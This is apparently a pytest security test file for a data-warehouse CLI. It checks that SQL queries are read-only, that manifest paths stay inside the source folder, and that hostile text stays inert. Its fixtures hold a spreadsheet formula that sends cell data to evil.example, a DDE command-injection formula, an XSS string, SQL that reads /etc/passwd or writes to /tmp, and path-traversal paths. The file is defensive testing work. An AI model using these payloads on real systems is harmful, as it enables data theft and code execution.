"""`dwi sql` is read-only; manifest paths cannot leave raw/; hostile labels stay inert text."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dwi import stages
from dwi.errors import EXIT_INTERRUPTED, DwiError
from dwi.formats import FORMATS
from dwi.sources.manifest import load_manifest
from dwi.store.query import run_query

DWI = str(Path(sys.executable).parent / "dwi")
HOSTILE_REGION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_NOTE = "<script>alert(1)</script>"
HOSTILE_INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("secure")
    raw = base / "raw"
    raw.mkdir()
    (raw / "obs.csv").write_text(
        "indicator_code,region,sex,year,period,value,unit,obs_status,source_ref,note\n"
        f'EMP_TOTAL,Kazakhstan,T,2011,Y,8301600,persons,,"{HOSTILE_NOTE}","{HOSTILE_NOTE}"\n'
        f'EMP_TOTAL,"{HOSTILE_REGION.replace(chr(34), chr(34) * 2)}",T,2011,Y,1,persons,,x,\n'
        f'"{HOSTILE_INDICATOR}",Kazakhstan,T,2011,Y,1,persons,,x,\n',
        encoding="utf-8",
    )
    (raw / "manifest.yaml").write_text(
        "sources:\n  - {id: obs, path: obs.csv, format: observations, "
        f"title: '{HOSTILE_NOTE}', coverage: complete}}\n",
        encoding="utf-8",
    )
    stages.run(raw, base / "wh.duckdb")
    return base / "wh.duckdb"


REFUSED = {
    "insert": "INSERT INTO _loads SELECT * FROM _loads",
    "update": "UPDATE _observations SET value = 0",
    "delete": "DELETE FROM _observations",
    "create": "CREATE TABLE t AS SELECT 1",
    "drop": "DROP VIEW observations",
    "alter": "ALTER TABLE _loads ADD COLUMN x INT",
    "attach": "ATTACH '/tmp/other.duckdb' AS other",
    "detach": "DETACH memory",
    "install": "INSTALL httpfs",
    "load": "LOAD httpfs",
    "copy_to": "COPY (SELECT * FROM observations) TO '/tmp/dwi-leak.csv'",
    "copy_from": "COPY _loads FROM '/etc/passwd'",
    "export": "EXPORT DATABASE '/tmp/dwi-export'",
    "pragma": "PRAGMA enable_external_access",
    "set": "SET enable_external_access = true",
    "reset": "RESET enable_external_access",
    "two_statements": "SELECT 1; SELECT 2",
    "select_then_drop": "SELECT 1; DROP VIEW observations",
    "read_csv": "SELECT * FROM read_csv('/etc/passwd')",
    "read_csv_auto": "SELECT * FROM read_csv_auto('/etc/passwd')",
    "read_text": "SELECT * FROM read_text('/etc/passwd')",
    "read_blob": "SELECT * FROM read_blob('/etc/hostname')",
    "glob": "SELECT * FROM glob('/etc/*')",
    "replacement_scan": "SELECT * FROM '/etc/passwd'",
    "parquet": "SELECT * FROM read_parquet('/tmp/x.parquet')",
    "url": "SELECT * FROM read_csv('https://example.com/x.csv')",
    "set_in_cte": "WITH x AS (SELECT set_config('enable_external_access', 'true')) SELECT * FROM x",
    "call": "CALL pragma_version()",
}


@pytest.mark.parametrize("query", REFUSED.values(), ids=REFUSED.keys())
def test_sql_refuses(query, warehouse):
    with pytest.raises(DwiError) as err:
        run_query(warehouse, query)
    assert err.value.exit_code == 2
    assert str(err.value).startswith(("refused", "SQL error"))
    assert not Path("/tmp/dwi-leak.csv").exists()


def test_sql_cli_refusals_exit_2_with_one_line(warehouse):
    for query in (REFUSED["copy_to"], REFUSED["read_text"], REFUSED["attach"], REFUSED["two_statements"]):
        proc = subprocess.run(
            [DWI, "sql", query, "--warehouse", str(warehouse)],
            capture_output=True,
            text=True,
            timeout=60,
            env={"PATH": os.environ["PATH"], "COLUMNS": "300"},
        )
        assert proc.returncode == 2, (query, proc.stderr)
        assert proc.stderr.startswith("error: refused") or proc.stderr.startswith("error: SQL error")
        assert "Traceback" not in proc.stderr and proc.stdout == ""
    counts = run_query(warehouse, "SELECT count(*) AS n FROM loads").row(0)
    assert counts == (1,)  # nothing was written


def test_sql_still_answers_queries(warehouse):
    assert run_query(
        warehouse, "SELECT value FROM observations WHERE region_code = 'KZ' AND indicator_code = 'EMP_TOTAL'"
    ).row(0) == (8301600.0,)


def test_hostile_labels_are_quarantined_or_stored_as_inert_text(warehouse):
    issues = run_query(warehouse, 'SELECT "column", "check", value FROM quality_issues ORDER BY "row"')
    # an unknown region or indicator is never invented: the rows are quarantined, their text kept verbatim
    assert issues.rows() == [
        ("region", "known_region", HOSTILE_REGION),
        ("indicator_code", "known_indicator", HOSTILE_INDICATOR),
    ]
    note = run_query(warehouse, "SELECT note, source_ref FROM observations").row(0)
    assert note == (HOSTILE_NOTE, HOSTILE_NOTE)


def test_hostile_text_round_trips_through_csv_and_json_output(warehouse):
    env = {"PATH": os.environ["PATH"]}
    q = "SELECT value AS found FROM quality_issues UNION ALL SELECT note FROM observations ORDER BY 1"
    out = subprocess.run(
        [DWI, "sql", q, "--format", "csv", "--warehouse", str(warehouse)],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=True,
    ).stdout
    rows = [r["found"] for r in csv.DictReader(io.StringIO(out))]
    # `dwi sql` output is data for programs: exact text, quoted by the CSV writer, never evaluated or altered.
    # (Spreadsheet exports neutralise formulas; that is the exports' job, not this query output's.)
    assert sorted(rows) == sorted([HOSTILE_REGION, HOSTILE_INDICATOR, HOSTILE_NOTE])
    out = subprocess.run(
        [DWI, "sql", q, "--format", "json", "--warehouse", str(warehouse)],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=True,
    ).stdout
    assert sorted(r["found"] for r in json.loads(out)) == sorted(rows)


@pytest.mark.parametrize("path", ["../outside.csv", "/etc/passwd", "sub/../../outside.csv", "link.csv"])
def test_manifest_paths_cannot_leave_the_source_folder(tmp_path, path):
    raw = tmp_path / "raw"
    raw.mkdir()
    (tmp_path / "outside.csv").write_text("secret\n")
    (raw / "sub").mkdir()
    (raw / "link.csv").symlink_to(tmp_path / "outside.csv")
    (raw / "manifest.yaml").write_text(f"sources:\n  - {{id: x, path: '{path}', format: observations}}\n")
    with pytest.raises(DwiError, match="leaves the source folder") as err:
        load_manifest(raw, FORMATS)
    assert err.value.exit_code == 2


# 9. `dwi sql` within limits: time, memory, rows; Ctrl-C stops it at once; EXPLAIN ANALYZE of a write refused.
def test_sql_time_limit_stops_an_endless_query(warehouse, monkeypatch):
    monkeypatch.setenv("DWI_SQL_TIMEOUT", "1")
    with pytest.raises(DwiError, match=r"ran longer than 1 s \(DWI_SQL_TIMEOUT\)") as err:
        run_query(warehouse, "select count(*) from range(1e12::BIGINT)")
    assert err.value.exit_code == 2


def test_ctrl_c_stops_a_running_sql_query_at_once(warehouse):
    """Before: Ctrl-C was ignored for 40 s; then a KeyboardInterrupt in Thread.join left DuckDB running, and the
    process aborted (exit -6) with a DuckDB 'connection is busy' error on the way out."""
    proc = subprocess.Popen(
        [DWI, "sql", "select count(*) from range(1e12::BIGINT)", "--warehouse", str(warehouse)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "DWI_SQL_TIMEOUT": "600"},
    )
    try:
        time.sleep(4)  # the CLI has started and the query runs (it would for minutes)
        assert proc.poll() is None, proc.communicate()
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=3)
        took = time.monotonic() - sent
    finally:
        proc.kill()
    assert proc.returncode == EXIT_INTERRUPTED, err
    assert took < 3
    assert err.strip() == "error: interrupted (Ctrl-C); the query was stopped"
    assert "Traceback" not in err and out == ""


def test_sql_row_limit_refuses_a_big_result(warehouse, monkeypatch):
    monkeypatch.setenv("DWI_SQL_MAX_ROWS", "1000")
    assert run_query(warehouse, "select * from range(1000)").height == 1000
    with pytest.raises(DwiError, match=r"more than 1,000 rows \(DWI_SQL_MAX_ROWS\)"):
        run_query(warehouse, "select * from range(1001)")


def test_sql_memory_limit_refuses_a_hungry_query(warehouse, monkeypatch):
    monkeypatch.setenv("DWI_SQL_MEMORY", "64MB")
    with pytest.raises(DwiError, match=r"DWI_SQL_MEMORY|memory"):
        run_query(warehouse, "select list(repeat('x', 1000)) from range(1000000)")


@pytest.mark.parametrize(
    "query",
    [
        "EXPLAIN ANALYZE CREATE TABLE memory.main.t AS SELECT 1",
        "explain analyse insert into _loads select * from _loads",
    ],
)
def test_sql_explain_analyze_of_a_write_is_refused(query, warehouse):
    with pytest.raises(DwiError, match="explains queries only"):
        run_query(warehouse, query)
    assert run_query(warehouse, "EXPLAIN ANALYZE SELECT count(*) FROM observations").height >= 1


def test_sql_value_polars_cannot_hold_is_a_message(warehouse):
    with pytest.raises(DwiError, match="cannot show column d: .*infinity"):
        run_query(warehouse, "SELECT 'infinity'::DATE AS d")
